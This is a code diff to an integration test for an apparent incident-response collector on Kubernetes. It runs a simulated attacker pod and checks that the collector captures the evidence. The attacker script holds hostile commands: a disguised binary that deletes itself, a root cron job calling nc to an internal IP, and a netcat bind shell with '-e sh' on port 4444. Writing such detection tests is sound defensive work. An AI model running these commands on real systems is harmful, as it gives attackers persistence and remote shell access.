@@ -11,6 +11,7 @@ import { RealNode, buildImages, nodeUnavailable, type Image } from '../../testen
 import { NodePods } from '../../testenv/node-pods.js';
 import { startCaseController } from '../../testenv/operator.js';
 import { OPERATOR_NAMESPACE, operatorKubeConfig } from '../../testenv/rbac.js';
+import { waitFor } from '../../testenv/wait.js';
 import { Workloads, type CaseView } from '../../testenv/workload.js';
 import { createSigningKeySecret } from '../collection/helpers.js';
 
@@ -86,8 +87,9 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       '3600',
     ]);
     const attacker = [
-      'cp /bin/busybox /tmp/.dropper && /tmp/.dropper sleep 3600 &',
-      'sleep 0.5; rm -f /tmp/.dropper',
+      // busybox runs the applet its file is named after: the dropped copy is a "sleep".
+      'mkdir /tmp/.x && cp /bin/busybox /tmp/.x/sleep && /tmp/.x/sleep 3600 &',
+      'sleep 0.5; rm -rf /tmp/.x',
       'echo "nameserver 10.9.9.9" > /etc/evil.conf',
       'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
       'nc -ll -p 4444 -e sh &',
@@ -96,6 +98,11 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       'exec sleep 3600',
     ].join('\n');
     await pods.run('shop', 'suspect', node.images.busybox!.ref, ['sh', '-c', attacker]);
+    await waitFor(
+      'the attacker done',
+      () => pods.logs('shop', 'suspect'),
+      (l) => l.includes('attacker ready'),
+    );
 
     const started = Date.now();
     await w.createCase('case-node', {
@@ -170,8 +177,11 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
     const diff = await read(`${dir}/filesystem/diff.json`);
     expect(diff).toContain('/etc/evil.conf');
     expect(diff).toContain('/var/spool/cron/crontabs/root');
-    expect(await read(`${dir}/processes.json`)).toContain('/tmp/.dropper');
-    expect(names.some((n) => /^containers\/[0-9a-f]+\/processes\/\d+\/exe\.bin$/.test(n))).toBe(true);
+    const processes = JSON.parse(await read(`${dir}/processes.json`)) as {
+      processes: { exe?: { path: string; deleted: boolean; artifact?: string } }[];
+    };
+    const dropped = processes.processes.find((p) => p.exe?.path === '/tmp/.x/sleep');
+    expect(dropped?.exe).toMatchObject({ deleted: true, artifact: expect.stringMatching(/exe\.bin$/) });
     const network = await read(`${dir}/network.json`);
     expect(network).toContain('4444');
     expect(network).toContain(peer.status!.podIP!);
